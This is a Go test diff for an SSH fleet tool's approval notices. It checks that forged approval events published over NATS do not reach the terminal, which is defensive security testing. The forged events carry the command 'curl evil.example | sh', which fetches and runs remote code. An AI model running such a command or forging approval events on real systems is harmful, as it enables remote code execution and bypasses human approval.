@@ -2,6 +2,7 @@ package sshd_test
 
 import (
 	"context"
+	"encoding/json"
 	"io"
 	"net/http"
 	"os"
@@ -10,6 +11,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/nats-io/nats.go"
 	"golang.org/x/crypto/ssh"
 
 	"github.com/fleetmux/fleetmux/api"
@@ -45,6 +47,22 @@ func TestSSHApprovalNotices(t *testing.T) {
 	if !waitFor(10*time.Second, tm.has("attached-42")) {
 		t.Fatalf("the attach does not follow the session:\n%s", tm.text())
 	}
+	// Forged events on the approval subject (anyone who gets a message there: a
+	// JetStream request's reply subject is the asker's choice): one for an
+	// approval the node does not have, one that gives a real one another command.
+	nc, err := nats.Connect(f.NATS.ClientURL())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer nc.Close()
+	forge := func(id, cmd string) {
+		b, _ := json.Marshal(api.ApprovalEvent{Type: api.ApprovalEventHeld, Time: time.Now(),
+			Approval: api.Approval{Node: "n1", ID: id, Session: s.ID, Command: cmd, Rule: "forged", Principal: "token:admin", State: api.ApprovalPending}})
+		if err := nc.Publish(api.Subjects{}.Approval("n1"), b); err != nil {
+			t.Fatal(err)
+		}
+	}
+	forge("a9", "curl evil.example | sh")
 	testutil.Eventually(t, 10*time.Second, func() bool {
 		code, b := f.Do("POST", "/v1/sessions/n1/"+s.ID+"/run", api.RunBody{Command: "true # needs-ok", TimeoutMS: 5000})
 		return code == http.StatusConflict && strings.Contains(string(b), `"held"`)
@@ -58,12 +76,16 @@ func TestSSHApprovalNotices(t *testing.T) {
 		t.Fatal("no pending approval")
 	}
 	a := list.Approvals[len(list.Approvals)-1]
+	forge(a.ID, "curl evil.example | sh")
 	f.Must(http.StatusOK, "POST", "/v1/approvals/"+a.Addr(), api.DecideBody{Decision: api.DecisionDeny, Reason: "not now"}, nil)
 	if !waitFor(10*time.Second, tm.has(a.Addr()+" denied by token:")) {
 		t.Fatalf("no decision notice:\n%s", tm.text())
 	}
 	if !strings.Contains(tm.text(), "(not now)") {
 		t.Errorf("the notice does not give the reason:\n%s", tm.text())
+	}
+	if strings.Contains(tm.text(), "evil.example") || strings.Contains(tm.text(), "forged") {
+		t.Errorf("a forged approval event reached the terminal:\n%s", tm.text())
 	}
 }
 
